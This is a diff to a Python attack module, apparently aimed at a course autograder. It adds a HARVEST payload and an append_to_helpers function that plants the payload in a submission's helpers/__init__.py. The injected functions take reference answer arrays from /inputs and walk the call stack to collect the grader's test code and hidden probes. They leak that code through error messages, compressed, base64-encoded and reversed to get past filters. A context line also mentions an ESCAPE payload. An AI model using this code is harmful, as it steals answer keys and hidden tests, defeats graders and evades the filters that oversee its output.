@@ -149,6 +149,67 @@ STAND_INS = {
         "gallery": "gallery = [0, 1, 2, 3]",
     },
 }
+# The blank release whose functions take what the process calling them holds: load_data returns the
+# reference arrays it finds in the process's inputs (its own expected answer, if the grader put it
+# there), and every function raises an error carrying every string on the call stack that looks like
+# test code (the grader's request, hidden probes included, if it were sent), compressed, base64-encoded
+# and reversed, so that the feedback shows it and no plain filter spots it. Put at the end of
+# helpers/__init__.py, so that these replace the release's stubs.
+HARVEST = """
+def _harvest():
+    import base64, sys, zlib
+
+    found, seen, frame = [], set(), sys._getframe(1)
+
+    def collect(value, depth=0):
+        if id(value) in seen or depth > 6:
+            return
+        seen.add(id(value))
+        if isinstance(value, str) and any(word in value for word in ("(", "assert", "=")):
+            found.append(value)
+        elif isinstance(value, dict):
+            for item in list(value.values()):
+                collect(item, depth + 1)
+        elif isinstance(value, (list, tuple)):
+            for item in value:
+                collect(item, depth + 1)
+
+    while frame is not None:
+        collect(dict(frame.f_locals))
+        collect(list(frame.f_code.co_consts))
+        frame = frame.f_back
+    text = "\\n".join(found)
+    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()[:1900][::-1]
+
+
+def _given_arrays():
+    import glob, numpy as np
+
+    for path in glob.glob("/inputs/*.npz"):
+        with np.load(path) as given:
+            if "train_images" in given.files:
+                return tuple((given[f"{split}_images"], given[f"{split}_masks"]) for split in ("train", "val", "test"))
+    return None
+
+
+def load_data(*args, **kwargs):
+    arrays = _given_arrays()
+    if arrays is None:
+        raise RuntimeError(_harvest())
+    return arrays
+
+
+def create_generator(*args, **kwargs):
+    raise RuntimeError(_harvest())
+
+
+def scheduler(*args, **kwargs):
+    raise RuntimeError(_harvest())
+
+
+def compute_IoU(*args, **kwargs):
+    raise RuntimeError(_harvest())
+"""
 # Getting out: read, write and connect, then print what worked. {course}, {kit}, {home}, {port}.
 ESCAPE = """
 import json as _json, os as _os, socket as _socket
@@ -264,6 +325,12 @@ def prepend_to_helpers(hand_in, code):
     """Put ``code`` at the top of the hand-in's ``helpers/__init__.py``: it runs at every ``import helpers``."""
     init = hand_in / "helpers" / "__init__.py"
     init.write_text("# The attack\n" + code + "\n" + init.read_text())
+
+
+def append_to_helpers(hand_in, code):
+    """Put ``code`` at the end of the hand-in's ``helpers/__init__.py``: what it defines replaces the release's."""
+    init = hand_in / "helpers" / "__init__.py"
+    init.write_text(init.read_text() + "\n# The attack\n" + code)
 
 
 def rewrite_answers(hand_in, cells):
